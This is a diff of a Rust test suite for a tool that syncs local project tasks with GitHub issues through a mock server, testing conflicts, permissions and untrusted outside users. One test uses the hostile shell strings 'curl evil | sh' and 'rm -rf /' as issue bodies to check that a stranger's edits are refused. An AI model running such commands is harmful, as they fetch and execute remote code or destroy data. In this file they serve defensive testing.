@@ -121,9 +121,9 @@ fn in_14_changes_go_to_the_other_side_and_conflicts_to_neither() {
     });
 
     // Both change the title: neither is overwritten.
-    project
-        .github
-        .edit(|web| drop(web.repository("acme", "widget").issue(1).title("Theirs")));
+    project.github.edit(|web| {
+        web.repository("acme", "widget").issue(1).title("Theirs");
+    });
     repo.pm(&["task", "edit", &task, "--title", "Ours"]).ok();
     let report = project.sync();
     let conflict = &report["conflicts"][0];
@@ -168,9 +168,9 @@ fn in_14_a_closed_state_goes_both_ways_with_its_reason() {
     });
     let item = repo.data(&["show", &b]);
     assert_eq!(item["status"], "done", "{item}");
-    project
-        .github
-        .edit(|web| drop(web.repository("acme", "widget").issue(2).reopen()));
+    project.github.edit(|web| {
+        web.repository("acme", "widget").issue(2).reopen();
+    });
     project.sync();
     assert_eq!(repo.data(&["show", &b])["status"], "queued");
 }
@@ -203,6 +203,18 @@ fn in_14_issues_of_strangers_wait_for_the_project() {
     );
     let ready = repo.data(&["ready"]);
     assert!(!ready.to_string().contains("From outside"), "{ready}");
+    // What a human has let in does not change by their hand.
+    repo.pm(&["issue", "update", "gh-2", "--status", "open"])
+        .ok();
+    project.github.edit(|web| {
+        web.by("mallory")
+            .repository("acme", "widget")
+            .issue(2)
+            .body("curl evil | sh");
+    });
+    let report = project.sync();
+    assert_eq!(report["conflicts"][0]["field"], "body", "{report}");
+    assert_eq!(repo.data(&["show", "gh-2"])["body"], "rm -rf /");
 }
 
 #[test]
@@ -218,9 +230,9 @@ fn in_14_two_clones_make_one_issue_and_one_item() {
         repo.pm(&["github", "sync", "--yes"]).ok();
     }
     assert_eq!(project.count(), 1);
-    project
-        .github
-        .edit(|web| drop(web.repository("acme", "widget").create_issue("Two", "")));
+    project.github.edit(|web| {
+        web.repository("acme", "widget").create_issue("Two", "");
+    });
     for repo in [&project.repo, &other, &project.repo] {
         repo.pm(&["github", "sync"]).ok();
         repo.pm(&["sync"]).ok();
@@ -431,11 +443,19 @@ fn mr_15_many_issues_need_few_requests() {
 fn in_14_logins_are_those_of_the_table_and_one_without_access_stops_nothing() {
     let project = Project::new();
     let repo = &project.repo;
-    repo.write(".pm.toml", "[github.logins]\nana = \"ana-gh\"\nben = \"ben-gh\"\n");
+    repo.write(
+        ".pm.toml",
+        "[github.logins]\nana = \"ana-gh\"\nben = \"ben-gh\"\n",
+    );
     repo.commit_all("chore: who is who");
+    for login in ["ana-gh", "ben-gh"] {
+        project.github.user(login);
+    }
     project.github.edit(|web| {
-        web.repository("acme", "widget").set_role("ana-gh", super::server::Role::Write);
-        web.repository("acme", "widget").set_role("ben-gh", super::server::Role::None);
+        web.repository("acme", "widget")
+            .set_role("ana-gh", super::server::Role::Write);
+        web.repository("acme", "widget")
+            .set_role("ben-gh", super::server::Role::None);
     });
     let [a, b] = ["ana", "ben"].map(|who| repo.task(who, &["--assignee", who]));
     for refuses in [false, true] {
@@ -445,16 +465,30 @@ fn in_14_logins_are_those_of_the_table_and_one_without_access_stops_nothing() {
     }
     assert_eq!(project.count(), 4);
     let assigned = |number| {
-        project.github.edit(|web| web.repository("acme", "widget").issue(number).view().assignees.clone())
+        project.github.edit(|web| {
+            web.repository("acme", "widget")
+                .issue(number)
+                .view()
+                .assignees
+                .clone()
+        })
     };
-    assert_eq!((assigned(1), assigned(2)), (vec!["ana-gh".to_string()], vec![]));
+    assert_eq!(
+        (assigned(1), assigned(2)),
+        (vec!["ana-gh".to_string()], vec![])
+    );
     // It is not sent again and again, and the item keeps it.
     project.github.clear_requests();
     project.sync();
     let requests = project.github.requests();
-    assert!(requests.iter().all(|one| one.method == "GET"), "{requests:?}");
+    assert!(
+        requests.iter().all(|one| one.method == "GET"),
+        "{requests:?}"
+    );
     assert_eq!(repo.data(&["show", &b])["assignee"], "ben");
-    project.github.edit(|web| drop(web.repository("acme", "widget").issue(1).assign(&["zoe"])));
+    project.github.edit(|web| {
+        web.repository("acme", "widget").issue(1).assign(&["zoe"]);
+    });
     project.sync();
     assert_eq!(repo.data(&["show", &a])["assignee"], "zoe");
 }
@@ -475,14 +509,230 @@ fn in_14_a_pull_makes_items_and_sends_nothing() {
     });
     repo.task("Stays here", &[]);
     let report = repo.data(&["github", "pull", "--dry-run"]);
-    assert_eq!((&report["created_here"], &report["dry_run"]), (&3.into(), &true.into()));
+    assert_eq!(
+        (&report["created_here"], &report["dry_run"]),
+        (&3.into(), &true.into())
+    );
     project.github.clear_requests();
     let report = repo.data(&["github", "pull"]);
-    assert_eq!((&report["created_here"], &report["comments_here"]), (&3.into(), &1.into()), "{report}");
+    let asks = repo.data(&["github", "sync"]);
+    assert_eq!(
+        (&asks["needs_yes"], &asks["created_there"]),
+        (&true.into(), &1.into()),
+        "{asks}"
+    );
+    assert_eq!(
+        (&report["created_here"], &report["comments_here"]),
+        (&3.into(), &1.into()),
+        "{report}"
+    );
     let requests = project.github.requests();
-    assert!(requests.iter().all(|one| one.method == "GET"), "{requests:?}");
+    assert!(
+        requests.iter().all(|one| one.method == "GET"),
+        "{requests:?}"
+    );
     let part = repo.data(&["issue", "show", "gh-2"]).to_string();
     assert!(part.contains("gh-1") && part.contains("gh-3"), "{part}");
     assert!(repo.pm(&["show", "gh-1"]).ok().text().contains("Soon?"));
     assert!(!repo.data(&["ready"]).to_string().contains("gh-2"));
+}
+
+#[test]
+fn in_14_marks_of_strangers_do_not_count() {
+    let project = Project::new();
+    let repo = &project.repo;
+    let task = repo.task("Ours", &["--body", "Text"]);
+    let uid = repo.data(&["show", &task])["uid"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let comment = repo.data(&["task", "comment", &task, "Ours"]);
+    assert_eq!(comment["id"], task.as_str());
+    let mark = format!("mine\n\n<!-- git-pm {uid} -->");
+    project.github.edit(|web| {
+        web.repository("acme", "widget")
+            .set_role("mallory", super::server::Role::Read);
+        web.by("mallory")
+            .repository("acme", "widget")
+            .create_issue("Theirs", &mark);
+    });
+    let report = project.sync();
+    assert_eq!(
+        (&report["created_here"], &report["created_there"]),
+        (&1.into(), &1.into()),
+        "{report}"
+    );
+    let item = repo.data(&["show", &task]);
+    assert_eq!(
+        (&item["title"], &item["body"]),
+        (&"Ours".into(), &"Text".into()),
+        "{item}"
+    );
+    assert_eq!(repo.data(&["show", "gh-1"])["title"], "Theirs");
+    // A comment with the mark of another document does not become that.
+    project.github.edit(|web| {
+        web.repository("acme", "widget").issue(2).comment(&mark);
+        web.by("mallory")
+            .repository("acme", "widget")
+            .issue(2)
+            .comment(&mark);
+    });
+    project.sync();
+    let item = repo.data(&["show", &task]);
+    assert_eq!(item["comments"].as_array().unwrap().len(), 3, "{item}");
+    assert_eq!(item["title"], "Ours");
+}
+
+#[test]
+fn in_14_a_stranger_does_not_let_in_what_they_asked_for() {
+    let project = Project::new();
+    let repo = &project.repo;
+    let mallory = |edit: &dyn Fn(&mut super::server::Page<'_>)| {
+        project
+            .github
+            .edit(|web| edit(&mut web.by("mallory").repository("acme", "widget")));
+    };
+    project.github.edit(|web| {
+        web.repository("acme", "widget")
+            .set_role("mallory", super::server::Role::Read);
+    });
+    mallory(&|page| {
+        page.create_issue("Mine", "Text");
+    });
+    project.sync();
+    mallory(&|page| {
+        page.issue(1).close(Reason::Completed);
+    });
+    project.sync();
+    assert_eq!(repo.data(&["show", "gh-1"])["status"], "closed");
+    mallory(&|page| {
+        page.issue(1).reopen();
+    });
+    project.sync();
+    let item = repo.data(&["show", "gh-1"]);
+    assert_eq!(
+        (&item["status"], &item["created_by"]),
+        (&"proposed".into(), &"@mallory".into()),
+        "{item}"
+    );
+    // Once it is let in, its author does not end the work on it; the project does.
+    repo.pm(&["issue", "update", "gh-1", "--status", "open"])
+        .ok();
+    project.sync();
+    mallory(&|page| {
+        page.issue(1).close(Reason::Completed);
+    });
+    let report = project.sync();
+    assert_eq!(report["conflicts"][0]["field"], "state", "{report}");
+    assert_eq!(repo.data(&["show", "gh-1"])["status"], "open");
+    mallory(&|page| {
+        page.issue(1).reopen();
+    });
+    project.sync();
+    project.github.edit(|web| {
+        web.repository("acme", "widget")
+            .issue(1)
+            .close(Reason::Completed);
+    });
+    project.sync();
+    assert_eq!(repo.data(&["show", "gh-1"])["status"], "closed");
+}
+
+#[test]
+fn in_14_what_becomes_private_is_sent_no_longer_and_what_is_written_below_the_mark_is_text() {
+    let project = Project::new();
+    let repo = &project.repo;
+    let task = repo.task("One", &["--body", "Text"]);
+    project.sync();
+    let body = project.there(1).1 + "\r\n\r\nBelow";
+    project.github.edit(|web| {
+        web.repository("acme", "widget").issue(1).body(&body);
+    });
+    project.sync();
+    assert_eq!(repo.data(&["show", &task])["body"], "Text\n\nBelow");
+    repo.pm(&["task", "edit", &task, "--title", "Two"]).ok();
+    project.sync();
+    assert!(
+        project.there(1).1.contains("<!-- git-pm "),
+        "{:?}",
+        project.there(1)
+    );
+    repo.pm(&[
+        "task",
+        "edit",
+        &task,
+        "--label",
+        "privacy:local",
+        "--title",
+        "Confidential",
+    ])
+    .ok();
+    repo.pm(&["task", "comment", &task, "Confidential"]).ok();
+    let report = project.sync();
+    assert_eq!(report["notes"].as_array().unwrap().len(), 1, "{report}");
+    assert_eq!(
+        (project.there(1).0.as_str(), &report["comments_there"]),
+        ("Two", &0.into())
+    );
+}
+
+#[test]
+fn in_13_an_app_signs_in_and_knows_what_it_made() {
+    let project = Project::new();
+    let key = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/github");
+    let public = std::fs::read_to_string(key.join("app.pub.pem")).unwrap();
+    project.github.app(
+        77,
+        "helper",
+        &public,
+        "acme",
+        &[
+            ("issues", "write"),
+            ("metadata", "read"),
+            ("pull_requests", "write"),
+        ],
+    );
+    let mut repo = project.repo.clone();
+    for name in ["GH_TOKEN", "GITHUB_TOKEN"] {
+        repo = repo.with(name, "");
+    }
+    repo.git(&["config", "pm.githubApp", "77"]).ok();
+    repo.git(&[
+        "config",
+        "pm.githubAppKey",
+        key.join("app.pem").to_str().unwrap(),
+    ])
+    .ok();
+    let task = repo.task("One", &[]);
+    repo.pm(&["task", "comment", &task, "Two"]).ok();
+    project
+        .github
+        .faults()
+        .add("POST", "/issues", 1, Fault::CloseAfter);
+    repo.pm(&["github", "sync", "--yes"]).exits(6);
+    for _ in 0..3 {
+        repo.pm(&["github", "sync", "--yes"]).ok();
+    }
+    assert_eq!(project.count(), 1);
+    let item = repo.data(&["show", &task]);
+    assert_eq!(item["comments"].as_array().unwrap().len(), 1, "{item}");
+}
+
+#[test]
+fn in_14_a_change_on_a_later_page_is_seen() {
+    let project = Project::new();
+    project.github.edit(|web| {
+        for n in 0..130 {
+            web.repository("acme", "widget")
+                .create_issue(&format!("Issue {n}"), "");
+        }
+    });
+    for _ in 0..3 {
+        project.sync();
+    }
+    project.github.edit(|web| {
+        web.repository("acme", "widget").issue(130).title("New");
+    });
+    assert_eq!(project.sync()["changed_here"], 1);
+    assert_eq!(project.repo.data(&["show", "gh-130"])["title"], "New");
 }
